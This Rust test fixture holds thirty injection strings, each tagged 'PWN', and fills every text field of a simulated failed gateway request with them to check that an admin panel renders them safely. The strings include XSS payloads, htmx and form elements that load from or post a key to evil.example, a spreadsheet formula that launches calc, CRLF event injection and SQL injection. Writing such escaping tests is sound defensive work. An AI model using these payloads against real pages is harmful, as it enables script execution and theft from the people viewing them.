//! Text that a client of the gateway, or an upstream, would choose to hurt the
//! panel or the person who reads it. Each says `PWN`, so that a page can be
//! asked whether it was shown at all.

use serde_json::{Value, json};

use super::traffic;

pub(crate) const TEXTS: [&str; 30] = [
    r#""><svg onload=pwned=1>PWN"#,
    r"<script>window.pwned=1</script>PWN",
    r"<img src=x onerror=alert(1)>PWN",
    r#"'><img src="https://evil.example/x.png">PWN"#,
    r#"<div hx-get="//evil.example/" hx-trigger="load">PWN</div>"#,
    r#"<div data-hx-post="/logout" hx-trigger="load" hx-swap="none">PWN</div>"#,
    r#"<hx-partial hx-target="body">PWN</hx-partial>"#,
    r#"<template hx type="partial" hx-target="body">PWN</template>"#,
    r#"<iframe srcdoc="<script>alert(1)</script>">PWN"#,
    r#"<iframe src="javascript:alert(1)">PWN"#,
    r"javascript:alert(1)//PWN",
    r"data:text/html,<script>alert(1)</script>PWN",
    r#"<a href="javascript:alert(1)">PWN</a>"#,
    r"</title><script>alert(1)</script>PWN",
    r"</textarea></select><script>alert(1)</script>PWN",
    r"--><script>alert(1)</script><!--PWN",
    r#"<meta http-equiv="refresh" content="0;url=https://evil.example/">PWN"#,
    r#"<base href="https://evil.example/">PWN"#,
    r#"<link rel=stylesheet href="https://evil.example/x.css">PWN"#,
    r"<style>*{display:none}</style>PWN",
    r#"<form action="https://evil.example/"><input name=key>PWN"#,
    r"<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>PWN",
    r#"<x onclick=alert(1) style="position:fixed;inset:0">PWN"#,
    r"{{7*7}}${7*7}<%=7*7%>PWN",
    "\u{202e}PWN\u{2066}gpj.exe\u{2069}",
    "PWN\r\n\r\nevent: x\r\ndata: <script>alert(1)</script>\r\n\r\n",
    "=cmd|' /C calc'!A0 PWN",
    "&lt;img src=x onerror=alert(1)&gt;&#x3c;script&#x3e;PWN",
    "\u{0}\u{1b}[2J\u{7f}PWN\u{fffd}",
    "PWN' or 1=1 --",
];

/// A failed request with such texts in every field that is not a number; `n`
/// chooses which text stands where.
pub(crate) fn event(n: u32, time: &str) -> Value {
    let text = |field: u32| {
        let index = usize::try_from(n + field).unwrap() % TEXTS.len();
        TEXTS.get(index).copied().unwrap()
    };
    let mut event = traffic::numbered(n);
    let fields = json!({
        "timestamp": time,
        "source": text(0), "auth_index": format!("{:016x}", n), "client_ip": text(1),
        "x_forwarded_for": text(2), "user_agent": text(3), "failed": true,
        "fail": {"status_code": 429, "body": format!("{{\"error\":{{\"message\":{}}}}}", json!(text(4)))},
        "response_headers": {"X-Request-Id": [text(5)], "Retry-After": [text(6)]},
        "provider": text(7), "executor_type": text(8), "model": text(9), "alias": text(10),
        "endpoint": text(11), "auth_type": text(12), "api_key": text(13),
        "request_id": text(14), "reasoning_effort": text(15), "service_tier": text(16),
    });
    let (Value::Object(event_fields), Value::Object(fields)) = (&mut event, fields) else {
        unreachable!("both are objects");
    };
    event_fields.extend(fields);
    event
}
